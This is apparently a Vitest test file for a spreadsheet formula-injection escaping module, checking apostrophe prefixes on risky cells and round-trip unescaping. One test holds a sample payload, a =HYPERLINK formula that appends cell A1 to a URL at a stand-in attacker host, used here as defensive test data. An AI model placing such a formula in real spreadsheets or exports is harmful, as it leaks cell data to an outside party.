import { describe, expect, it } from "vitest";
import { escapeFormula, formulaSafeCell, unescapeFormula } from "./formula-escape.ts";

describe("escapeFormula", () => {
  it.each(["=1+1", "+31 6 1234", "-2", "@SUM(A1)", "\t=1", "\r=1", "\tx", "\rx"])("prefixes %j with an apostrophe", (text) => {
    expect(escapeFormula(text)).toBe(`'${text}`);
  });

  it("escapes a formula that spans lines, as =HYPERLINK with a newline inside", () => {
    const payload = '=HYPERLINK("https://evil.example/?"&A1,\n"Klik hier")';
    expect(escapeFormula(payload)).toBe(`'${payload}`);
  });

  it("escapes a formula after leading spaces or line breaks", () => {
    for (const text of [" =1+1", "\n=1+1", "\r\n@x", "  \n +1"]) expect(escapeFormula(text)).toBe(`'${text}`);
  });

  it("leaves ordinary text, text with a later = and numbers alone", () => {
    for (const text of ["Zorgpact Noord", "a=b", "E-mail", "", "  tekst"]) expect(escapeFormula(text)).toBe(text);
    expect(formulaSafeCell(-5)).toBe(-5);
    expect(formulaSafeCell(null)).toBe(null);
    expect(formulaSafeCell("-5")).toBe("'-5");
  });
});

describe("unescapeFormula", () => {
  it("gives back exactly what escapeFormula was given", () => {
    for (const text of ["=1+1", "-2", "@x", "\t=1", " =1", "Zorgpact Noord", "'quote", "''=1", ""]) expect(unescapeFormula(escapeFormula(text))).toBe(text);
  });

  it("keeps an apostrophe that does not guard a formula", () => {
    expect(unescapeFormula("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
  });
});
